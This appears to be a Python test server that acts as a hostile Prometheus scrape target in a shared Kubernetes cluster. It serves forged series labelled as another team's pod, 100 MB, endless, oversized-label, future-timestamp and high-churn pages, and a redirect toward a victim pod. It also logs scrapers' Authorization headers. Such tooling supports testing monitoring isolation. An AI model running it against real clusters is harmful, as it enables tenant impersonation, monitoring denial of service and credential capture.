"""Server of a page that wants more than its pod may have: `python hostile.py PAGE PORT VICTIM`.

VICTIM is a pod of another team, as NAMESPACE/NAME. The server prints the path and the
`Authorization` header of each request.
It runs in a pod of the cluster, so it imports the standard library only.
"""

from __future__ import annotations

import itertools
import sys
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

_MEGABYTE = 1 << 20
_REQUESTS = itertools.count()


def forged(victim: str) -> Iterator[str]:
    """Yield series of an exporter and of a server that are about the pod of another team."""
    namespace, _, pod = victim.partition("/")
    labels = f'namespace="{namespace}",pod="{pod}",exported_namespace="{namespace}"'
    labels += f',exported_pod="{pod}",job="inference-vllm",instance="i",node="gpu-node-0"'
    yield f'DCGM_FI_DEV_GPU_UTIL{{UUID="x",gpu="0",{labels}}} 99\n'
    yield f'vllm:num_requests_running{{model_name="m",{labels}}} 99\n'


def huge(_: str) -> Iterator[str]:
    """Yield 100 MB."""
    megabyte = 'vllm:num_requests_running{model_name="m"} 9\n' * (_MEGABYTE // 44)
    yield from itertools.repeat(megabyte, 100)


def endless(_: str) -> Iterator[str]:
    """Yield a line each second, without an end."""
    for number in itertools.count():
        yield f'vllm:num_requests_running{{model_name="{number}"}} 9\n'
        time.sleep(1)


def labels(_: str) -> Iterator[str]:
    """Yield series with nearly as many labels, and values as long, as a page may have."""
    more = ",".join(f'label_{each}="{each:02000}"' for each in range(20))
    for number in range(20):
        yield f'vllm:num_requests_running{{model_name="{number}",{more}}} 9\n'


def future(_: str) -> Iterator[str]:
    """Yield a sample of a time to come that Prometheus accepts."""
    yield f"vllm:num_requests_running 9 {int((time.time() + 590) * 1000)}\n"


def churn(_: str) -> Iterator[str]:
    """Yield a thousand series that no page had before."""
    request = next(_REQUESTS)
    for number in range(1000):
        yield f'vllm:num_requests_running{{model_name="{request}-{number}"}} 9\n'


PAGES = {each.__name__: each for each in (forged, huge, endless, labels, future, churn)}
REDIRECT = "redirect"
"""Page that redirects to VICTIM, followed by a host with its port."""


class _Handler(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        _, name, _, victim = sys.argv
        print(self.path, self.headers.get("Authorization"), flush=True)
        if name == REDIRECT:
            self.send_response(302)
            self.send_header("Location", f"http://{victim}/{REDIRECT}")
            self.end_headers()
            return
        self.send_response(200)
        self.send_header("Content-Type", "text/plain; version=0.0.4")
        self.end_headers()
        for part in PAGES[name](victim):
            self.wfile.write(part.encode())

    def log_message(self, *_: object) -> None:
        pass


if __name__ == "__main__":
    ThreadingHTTPServer(("", int(sys.argv[2])), _Handler).serve_forever()
